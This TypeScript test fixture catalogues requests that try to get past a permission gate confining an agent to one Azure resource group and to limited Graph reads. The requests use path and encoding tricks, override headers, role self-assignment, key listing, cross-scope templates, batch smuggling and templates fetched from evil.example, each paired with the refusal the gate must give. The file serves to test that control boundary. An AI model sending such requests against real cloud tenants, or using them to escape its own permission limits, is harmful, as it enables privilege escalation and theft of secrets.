/**
 * Ways around the rules of Resource Manager and Graph, as data. The agent may read what is in the
 * group `mine`, write storage accounts there, deploy templates there and run any verb there that no
 * word beside it forbids; it may read users in Graph. `S` is the subscription.
 */
export interface Attack {
  readonly what: string
  /** `METHOD /path?query`, below the resource's prefix; `V` stands for a valid api-version. */
  readonly line: string
  readonly headers?: readonly (readonly [string, string])[]
  /** An object is sent as JSON, a text as it is, a Buffer as its bytes. */
  readonly body?: unknown
  /** One of these must refuse it. */
  readonly codes: readonly string[]
}

const MINE = '/subscriptions/S/resourceGroups/mine'
const OTHER = '/subscriptions/S/resourceGroups/other'
const V = 'api-version=2021-04-01'
const VM = `${MINE}/providers/Microsoft.Compute/virtualMachines/vm1`
const STORE = `${MINE}/providers/Microsoft.Storage/storageAccounts/acme`
const DEPLOY = `PUT ${MINE}/providers/Microsoft.Resources/deployments/d?${V}`

const NO_RULE = ['POLICY_NO_MATCH', 'POLICY_DENIED']
const UNREAD = ['REQUEST_UNSUPPORTED', 'PROTOCOL_VIOLATION', 'PROTOCOL_UNSUPPORTED', 'LINK_UNKNOWN']

const account = (name: string) => ({
  type: 'Microsoft.Storage/storageAccounts',
  name,
  apiVersion: 'x',
})
const deployment = (resources: unknown, more: object = {}) => ({
  properties: { mode: 'Incremental', template: { resources }, ...more },
})
const inner = (template: unknown, more: object = {}) => ({
  type: 'Microsoft.Resources/deployments',
  name: 'inner',
  properties: { mode: 'Incremental', template },
  ...more,
})
const role = { type: 'Microsoft.Authorization/roleAssignments', name: 'x' }

const PATHS: readonly Attack[] = [
  { what: 'another group', line: `GET ${OTHER}?${V}`, codes: NO_RULE },
  { what: 'dots that lead out', line: `GET ${MINE}/../other?${V}`, codes: UNREAD },
  { what: 'encoded dots', line: `GET ${MINE}/%2e%2e/other?${V}`, codes: UNREAD },
  { what: 'dots encoded twice', line: `GET ${MINE}/%252e%252e/other?${V}`, codes: UNREAD },
  { what: 'a double slash', line: `GET /subscriptions//S/resourceGroups/mine?${V}`, codes: UNREAD },
  {
    what: 'a leading double slash',
    line: `GET //subscriptions/S/resourceGroups/other?${V}`,
    codes: UNREAD,
  },
  { what: 'an encoded slash', line: `GET ${MINE}%2F..%2Fother?${V}`, codes: UNREAD },
  { what: 'a slash encoded twice', line: `GET ${MINE}%252f..%252fother?${V}`, codes: UNREAD },
  { what: 'a backslash', line: `GET ${MINE}%5C..%5Cother?${V}`, codes: UNREAD },
  { what: 'a question mark in a name', line: `GET ${MINE}%3Fx?${V}`, codes: UNREAD },
  { what: 'a fragment in a name', line: `GET ${MINE}%23x?${V}`, codes: UNREAD },
  { what: 'a null', line: `GET ${MINE}%00?${V}`, codes: UNREAD },
  { what: 'a line end', line: `GET ${MINE}%0d%0aX:y?${V}`, codes: UNREAD },
  { what: 'a trailing dot', line: `GET ${MINE}.?${V}`, codes: UNREAD },
  { what: 'a trailing space', line: `GET ${MINE}%20?${V}`, codes: UNREAD },
  { what: 'bytes that are no UTF-8', line: `GET ${MINE}%ff?${V}`, codes: UNREAD },
  {
    what: 'capital letters',
    line: `GET /SUBSCRIPTIONS/S/RESOURCEGROUPS/OTHER?${V}`,
    codes: NO_RULE,
  },
  {
    what: 'a letter that looks like another',
    line: `GET /%C5%BFubscriptions/S?${V}`,
    codes: UNREAD,
  },
  {
    what: 'an encoded `providers`',
    line: `PUT ${STORE}/%70roviders/Microsoft.Authorization/roleAssignments/x?${V}`,
    body: {},
    codes: NO_RULE,
  },
  {
    what: 'a thing named `providers`',
    line: `PUT ${MINE}/providers/Microsoft.Storage/storageAccounts/providers/Microsoft.Authorization/roleAssignments/x?${V}`,
    body: {},
    codes: UNREAD,
  },
  {
    what: 'a group named `providers`',
    line: `GET /subscriptions/S/resourceGroups/providers/Microsoft.Storage/storageAccounts/x?${V}`,
    codes: UNREAD,
  },
  { what: 'an unknown root', line: `GET /metadata/endpoints?${V}`, codes: UNREAD },
  { what: 'the list above', line: `GET /subscriptions/S/resourceGroups?${V}`, codes: NO_RULE },
  {
    what: 'resources of the whole subscription',
    line: `GET /subscriptions/S/resources?${V}`,
    codes: NO_RULE,
  },
  {
    what: 'another subscription, which the resource is not for',
    line: `GET /subscriptions/11111111-2222-4333-8444-555555555555?${V}`,
    codes: ['RESOURCE_NOT_GRANTED'],
  },
]

const QUERIES: readonly Attack[] = [
  { what: 'no api-version', line: `GET ${MINE}`, codes: UNREAD },
  { what: 'two api-versions', line: `GET ${MINE}?${V}&${V}`, codes: UNREAD },
  {
    what: 'two api-versions in two cases',
    line: `GET ${MINE}?${V}&API-Version=2020-01-01`,
    codes: UNREAD,
  },
  {
    what: 'an encoded second api-version',
    line: `GET ${MINE}?${V}&api%2Dversion=2020-01-01`,
    codes: UNREAD,
  },
  {
    what: 'an api-version that is no date',
    line: `GET ${MINE}?api-version=../../x`,
    codes: UNREAD,
  },
  {
    what: 'a parameter twice',
    line: `GET ${MINE}/resources?${V}&$filter=a&$filter=b`,
    codes: UNREAD,
  },
  {
    what: 'a semicolon as divider',
    line: `GET ${MINE}?${V};api-version=2020-01-01`,
    codes: UNREAD,
  },
  {
    what: 'a token in the query',
    line: `GET ${MINE}?${V}&access_token=x`,
    codes: ['REQUEST_SIGNED', ...UNREAD],
  },
  { what: 'a signature in the query', line: `GET ${MINE}?${V}&sig=x`, codes: ['REQUEST_SIGNED'] },
  {
    what: 'a page token that nobody gave',
    line: `GET ${MINE}/resources?${V}&$skiptoken=x`,
    codes: UNREAD,
  },
  { what: 'the same, encoded', line: `GET ${MINE}/resources?${V}&%24skipToken=x`, codes: UNREAD },
  {
    what: 'an operation that somebody else began',
    line: `GET /subscriptions/S/providers/Microsoft.Resources/locations/westeurope/operationresults/x?${V}`,
    codes: ['LINK_UNKNOWN'],
  },
  {
    what: 'the same by its status',
    line: `GET ${MINE}/providers/Microsoft.Storage/locations/westeurope/asyncoperations/x?${V}`,
    codes: ['LINK_UNKNOWN'],
  },
]

const HEADERS: readonly Attack[] = [
  {
    what: 'a method in a header',
    line: `POST ${MINE}?${V}`,
    headers: [['x-http-method-override', 'DELETE']],
    codes: UNREAD,
  },
  {
    what: 'another method in a header',
    line: `GET ${MINE}?${V}`,
    headers: [['x-http-method', 'DELETE']],
    codes: UNREAD,
  },
  {
    what: 'another path in a header',
    line: `GET ${MINE}?${V}`,
    headers: [['x-original-url', OTHER]],
    codes: UNREAD,
  },
  {
    what: 'another path in another header',
    line: `GET ${MINE}?${V}`,
    headers: [['x-rewrite-url', OTHER]],
    codes: UNREAD,
  },
  {
    what: 'a second token',
    line: `GET ${MINE}?${V}`,
    headers: [['x-ms-authorization-auxiliary', 'Bearer x']],
    codes: ['REQUEST_SIGNED'],
  },
  {
    what: 'a compressed body',
    line: `PUT ${STORE}?${V}`,
    headers: [['content-encoding', 'gzip']],
    body: Buffer.from('H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA==', 'base64'),
    codes: UNREAD,
  },
  {
    what: 'a body that is no JSON',
    line: `PUT ${STORE}?${V}`,
    headers: [['content-type', 'text/plain']],
    body: '{}',
    codes: UNREAD,
  },
  {
    what: 'JSON in another encoding',
    line: `PUT ${STORE}?${V}`,
    headers: [['content-type', 'application/json; charset=utf-16']],
    body: '{}',
    codes: UNREAD,
  },
  { what: 'a method that there is not', line: `PURGE ${MINE}?${V}`, codes: UNREAD },
  { what: 'a trace', line: `TRACE ${MINE}?${V}`, codes: UNREAD },
  { what: 'a GET with a body', line: `GET ${MINE}?${V}`, body: {}, codes: UNREAD },
]

const SECRETS: readonly Attack[] = [
  'listKeys',
  'LISTKEYS',
  'listAccountSas',
  'listServiceSas',
  'regenerateKey',
].map((verb) => ({ what: `keys by ${verb}`, line: `POST ${STORE}/${verb}?${V}`, codes: NO_RULE }))

const VERBS: readonly Attack[] = [
  ...['listClusterUserCredential', 'listClusterAdminCredential', 'runCommand'].map((verb) => ({
    what: `a cluster's ${verb}`,
    line: `POST ${MINE}/providers/Microsoft.ContainerService/managedClusters/k/${verb}?${V}`,
    codes: NO_RULE,
  })),
  {
    what: 'a command on a machine',
    line: `POST ${VM}/runCommand?${V}`,
    body: { commandId: 'x' },
    codes: NO_RULE,
  },
  { what: 'the same by its list', line: `PUT ${VM}/runCommands/x?${V}`, body: {}, codes: NO_RULE },
  { what: 'an extension', line: `PUT ${VM}/extensions/x?${V}`, body: {}, codes: NO_RULE },
  { what: 'a verb that nobody knows', line: `POST ${VM}/frobnicate?${V}`, codes: NO_RULE },
  { what: 'a POST to a thing by its name', line: `POST ${VM}?${V}`, body: {}, codes: NO_RULE },
  {
    what: 'a role for oneself',
    line: `PUT ${MINE}/providers/Microsoft.Authorization/roleAssignments/x?${V}`,
    body: {},
    codes: NO_RULE,
  },
  {
    what: 'the end of a lock',
    line: `DELETE ${MINE}/providers/Microsoft.Authorization/locks/x?${V}`,
    codes: NO_RULE,
  },
  {
    what: 'access to everything',
    line: `POST /providers/Microsoft.Authorization/elevateAccess?${V}`,
    codes: NO_RULE,
  },
  {
    what: 'a machine with another identity',
    line: `PUT ${STORE}?${V}`,
    body: {
      identity: {
        type: 'UserAssigned',
        userAssignedIdentities: {
          [`${OTHER}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/boss`]: {},
        },
      },
    },
    codes: NO_RULE,
  },
  {
    what: 'a move to elsewhere',
    line: `POST ${MINE}/moveResources?${V}`,
    body: { targetResourceGroup: OTHER, resources: [STORE] },
    codes: NO_RULE,
  },
  {
    what: 'a move out of elsewhere',
    line: `POST ${MINE}/moveResources?${V}`,
    body: {
      targetResourceGroup: MINE,
      resources: [`${OTHER}/providers/Microsoft.Storage/storageAccounts/x`],
    },
    codes: NO_RULE,
  },
]

const TEMPLATES: readonly Attack[] = [
  { what: 'a role in a template', line: DEPLOY, body: deployment([role]), codes: NO_RULE },
  {
    what: 'a role as a child',
    line: DEPLOY,
    body: deployment([{ ...account('a'), resources: [role] }]),
    codes: UNREAD,
  },
  {
    what: 'a role in a nested template',
    line: DEPLOY,
    body: deployment([inner({ resources: [role] })]),
    codes: NO_RULE,
  },
  {
    what: 'a role two templates deep',
    line: DEPLOY,
    body: deployment([inner({ resources: [inner({ resources: { r: role } })] })]),
    codes: NO_RULE,
  },
  {
    what: 'a role by its old name',
    line: DEPLOY,
    body: deployment([
      {
        type: 'Microsoft.Storage/storageAccounts/providers/roleAssignments',
        name: 'a/Microsoft.Authorization/x',
      },
    ]),
    codes: UNREAD,
  },
  {
    what: 'a type in an expression',
    line: DEPLOY,
    body: deployment([
      { type: "[concat('Microsoft.Auth','orization/roleAssignments')]", name: 'x' },
    ]),
    codes: UNREAD,
  },
  {
    what: 'a scope elsewhere',
    line: DEPLOY,
    body: deployment([{ ...account('a'), scope: OTHER }]),
    codes: NO_RULE,
  },
  {
    what: 'a scope in an expression',
    line: DEPLOY,
    body: deployment([{ ...account('a'), scope: '[resourceGroup().id]' }]),
    codes: NO_RULE,
  },
  {
    what: 'a nested template in another group',
    line: DEPLOY,
    body: deployment([inner({ resources: [account('a')] }, { resourceGroup: 'other' })]),
    codes: NO_RULE,
  },
  {
    what: 'a nested template in a group by expression',
    line: DEPLOY,
    body: deployment([
      inner({ resources: [account('a')] }, { resourceGroup: "[parameters('g')]" }),
    ]),
    codes: NO_RULE,
  },
  {
    what: 'a nested template in another subscription',
    line: DEPLOY,
    body: deployment([
      inner(
        { resources: [account('a')] },
        { subscriptionId: '11111111-2222-4333-8444-555555555555' },
      ),
    ]),
    codes: [...NO_RULE, 'RESOURCE_NOT_GRANTED'],
  },
  {
    what: 'a template that lies elsewhere',
    line: DEPLOY,
    body: {
      properties: { mode: 'Incremental', templateLink: { uri: 'https://evil.example/t.json' } },
    },
    codes: UNREAD,
  },
  {
    what: 'a template spec',
    line: DEPLOY,
    body: {
      properties: {
        mode: 'Incremental',
        templateLink: { id: `${OTHER}/providers/Microsoft.Resources/templateSpecs/x/versions/1` },
      },
    },
    codes: UNREAD,
  },
  {
    what: 'a relative template inside',
    line: DEPLOY,
    body: deployment([
      {
        type: 'Microsoft.Resources/deployments',
        name: 'x',
        properties: { templateLink: { relativePath: 'x.json' } },
      },
    ]),
    codes: UNREAD,
  },
  {
    what: 'parameters that lie elsewhere',
    line: DEPLOY,
    body: deployment([], { parametersLink: { uri: 'https://evil.example/p.json' } }),
    codes: UNREAD,
  },
  {
    what: 'another deployment on errors',
    line: DEPLOY,
    body: deployment([], { onErrorDeployment: { type: 'LastSuccessful' } }),
    codes: UNREAD,
  },
  {
    what: 'both kinds of template',
    line: DEPLOY,
    body: deployment([], { templateLink: { uri: 'https://evil.example/t.json' } }),
    codes: UNREAD,
  },
  {
    what: 'complete mode',
    line: DEPLOY,
    body: { properties: { mode: 'Complete', template: { resources: [] } } },
    codes: NO_RULE,
  },
  {
    what: 'no mode',
    line: DEPLOY,
    body: { properties: { template: { resources: [] } } },
    codes: NO_RULE,
  },
  {
    what: 'keys in an output',
    line: DEPLOY,
    body: {
      properties: {
        mode: 'Incremental',
        template: { resources: [], outputs: { k: { value: "[listKeys('acme','2021-04-01')]" } } },
      },
    },
    codes: NO_RULE,
  },
  {
    what: 'the properties of something elsewhere in an output',
    line: DEPLOY,
    body: {
      properties: {
        mode: 'Incremental',
        template: {
          resources: [],
          outputs: {
            o: {
              value: `[reference('${OTHER}/providers/Microsoft.Storage/storageAccounts/x', '2022-09-01')]`,
            },
          },
        },
      },
    },
    codes: NO_RULE,
  },
  {
    what: 'the same by a group in resourceId',
    line: DEPLOY,
    body: {
      properties: {
        mode: 'Incremental',
        template: {
          resources: [],
          outputs: {
            o: {
              value: "[reference(resourceId('other','Microsoft.Storage/storageAccounts','x'),'1')]",
            },
          },
        },
      },
    },
    codes: NO_RULE,
  },
  {
    what: 'the same asked of a what-if',
    line: DEPLOY.replace('PUT', 'POST').replace('?', '/whatIf?'),
    body: {
      properties: {
        mode: 'Incremental',
        template: {
          resources: [],
          outputs: { o: { value: "[references('x')[0]]", v: "[ Reference ( parameters('id') )]" } },
        },
      },
    },
    codes: NO_RULE,
  },
  {
    what: 'a secret of a vault in a parameter',
    line: DEPLOY,
    body: deployment([], {
      parameters: {
        p: {
          reference: {
            keyVault: { id: `${OTHER}/providers/Microsoft.KeyVault/vaults/kv` },
            secretName: 's',
          },
        },
      },
    }),
    codes: NO_RULE,
  },
  {
    what: 'other systems in a template',
    line: DEPLOY,
    body: {
      properties: {
        mode: 'Incremental',
        template: { imports: { g: { provider: 'MicrosoftGraph' } }, resources: {} },
      },
    },
    codes: UNREAD,
  },
  {
    what: 'two templates in one body',
    line: DEPLOY,
    body: `{"properties":{"mode":"Incremental","template":{"resources":[]},"template":{"resources":[${JSON.stringify(role)}]}}}`,
    codes: UNREAD,
  },
  {
    what: 'two templates in two cases',
    line: DEPLOY,
    body: `{"properties":{"mode":"Incremental","template":{"resources":[]},"Template":{"resources":[${JSON.stringify(role)}]}}}`,
    codes: UNREAD,
  },
  {
    what: 'two templates by an escape',
    line: DEPLOY,
    body: `{"properties":{"mode":"Incremental","template":{"resources":[]},"templ\\u0061te":{"resources":[${JSON.stringify(role)}]}}}`,
    codes: UNREAD,
  },
  {
    what: 'two templates, one without quotation marks',
    line: DEPLOY,
    body: `{"properties":{"mode":"Incremental","template":{"resources":[]}, template:{"resources":[${JSON.stringify(role)}]}}}`,
    codes: UNREAD,
  },
  {
    what: 'a role behind the end of a comment',
    line: DEPLOY,
    body: `{"properties":{"mode":"Incremental","template":{"resources":[//\u2028${JSON.stringify(role)}\n]}}}`,
    codes: [...NO_RULE, ...UNREAD],
  },
  {
    what: 'a byte order mark',
    line: DEPLOY,
    body: '\ufeff{"properties":{"mode":"Incremental","template":{"resources":[]}}}',
    codes: UNREAD,
  },
  {
    what: 'UTF-16',
    line: DEPLOY,
    body: Buffer.from(JSON.stringify(deployment([role])), 'utf16le'),
    codes: UNREAD,
  },
  { what: 'a body that is no object', line: DEPLOY, body: [], codes: UNREAD },
  { what: 'no body', line: DEPLOY, codes: UNREAD },
  {
    what: 'a deployment one level higher',
    line: `PUT /subscriptions/S/providers/Microsoft.Resources/deployments/d?${V}`,
    body: deployment([account('a')]),
    codes: NO_RULE,
  },
  {
    what: 'a stack that deletes',
    line: `PUT ${MINE}/providers/Microsoft.Resources/deploymentStacks/s?${V}`,
    body: {
      properties: { template: { resources: [] }, actionOnUnmanage: { resources: 'delete' } },
    },
    codes: NO_RULE,
  },
  {
    what: 'a script',
    line: DEPLOY,
    body: deployment([{ type: 'Microsoft.Resources/deploymentScripts', name: 'x' }]),
    codes: NO_RULE,
  },
]

const BATCHES: readonly Attack[] = [
  {
    what: 'another group in a batch',
    line: `POST /batch?${V}`,
    body: {
      requests: [
        { httpMethod: 'GET', url: `${MINE}?${V}` },
        { httpMethod: 'GET', url: `${OTHER}?${V}` },
      ],
    },
    codes: NO_RULE,
  },
  {
    what: 'an absolute URL in a batch',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'GET', url: `https://evil.example${MINE}?${V}` }] },
    codes: UNREAD,
  },
  {
    what: 'a host in a batch',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'GET', url: `//evil.example${MINE}?${V}` }] },
    codes: UNREAD,
  },
  {
    what: 'dots in a batch',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'GET', url: `${MINE}/../other?${V}` }] },
    codes: UNREAD,
  },
  {
    what: 'two URLs in a request',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'GET', url: `${MINE}?${V}`, relativeUrl: `${OTHER}?${V}` }] },
    codes: UNREAD,
  },
  {
    what: 'a header in a request',
    line: `POST /batch?${V}`,
    body: {
      requests: [
        {
          httpMethod: 'GET',
          url: `${MINE}?${V}`,
          requestHeaderDetails: { authorization: 'Bearer x' },
        },
      ],
    },
    codes: UNREAD,
  },
  {
    what: 'keys in a batch',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'POST', url: `${STORE}/listKeys?${V}` }] },
    codes: NO_RULE,
  },
  {
    what: 'a batch in a batch',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'POST', url: `/batch?${V}`, content: { requests: [] } }] },
    codes: UNREAD,
  },
  {
    what: 'a deployment in a batch',
    line: `POST /batch?${V}`,
    body: { requests: [{ httpMethod: 'PUT', url: DEPLOY.slice(4), content: deployment([role]) }] },
    codes: NO_RULE,
  },
  { what: 'an empty batch', line: `POST /batch?${V}`, body: { requests: [] }, codes: UNREAD },
]

/** To the resource `graph`. */
export const GRAPH_ATTACKS: readonly Attack[] = [
  { what: 'oneself', line: 'GET /v1.0/me', codes: UNREAD },
  { what: 'groups', line: 'GET /v1.0/groups', codes: NO_RULE },
  { what: 'a relation by $expand', line: 'GET /v1.0/users?$expand=memberOf', codes: NO_RULE },
  { what: 'the same, encoded', line: 'GET /v1.0/users?%24expand=memberOf', codes: NO_RULE },
  { what: 'the same without the dollar', line: 'GET /v1.0/users?expand=memberOf', codes: NO_RULE },
  {
    what: 'a relation inside of $expand',
    line: 'GET /v1.0/users?$expand=manager($expand=memberOf)',
    codes: NO_RULE,
  },
  {
    what: 'an absolute URL in a batch',
    line: 'POST /v1.0/$batch',
    body: { requests: [{ id: '1', method: 'GET', url: 'https://evil.example/v1.0/users' }] },
    codes: UNREAD,
  },
  {
    what: 'another thing in a batch',
    line: 'POST /v1.0/$batch',
    body: {
      requests: [
        { id: '1', method: 'GET', url: '/users' },
        { id: '2', method: 'GET', url: '/groups' },
      ],
    },
    codes: NO_RULE,
  },
  {
    what: 'a version in a batch',
    line: 'POST /v1.0/$batch',
    body: { requests: [{ id: '1', method: 'GET', url: '/../beta/groups' }] },
    codes: UNREAD,
  },
  {
    what: 'a token in a batch',
    line: 'POST /v1.0/$batch',
    body: {
      requests: [{ id: '1', method: 'GET', url: '/users', headers: { Authorization: 'Bearer x' } }],
    },
    codes: UNREAD,
  },
  { what: 'a password', line: 'POST /v1.0/applications/a/addPassword', body: {}, codes: NO_RULE },
  { what: 'a membership', line: 'POST /v1.0/groups/g/members/$ref', body: {}, codes: NO_RULE },
  { what: 'a page that nobody gave', line: 'GET /v1.0/users?$skiptoken=x', codes: UNREAD },
  {
    what: 'an encoded batch',
    line: 'POST /v1.0/%24batch',
    body: { requests: [{ id: '1', method: 'GET', url: '/groups' }] },
    codes: NO_RULE,
  },
  {
    what: 'another method by a header',
    line: 'POST /v1.0/users',
    headers: [['x-http-method-override', 'PATCH']],
    body: {},
    codes: UNREAD,
  },
]

export const ARM_ATTACKS: readonly Attack[] = [
  ...PATHS,
  ...QUERIES,
  ...HEADERS,
  ...SECRETS,
  ...VERBS,
  ...TEMPLATES,
  ...BATCHES,
]
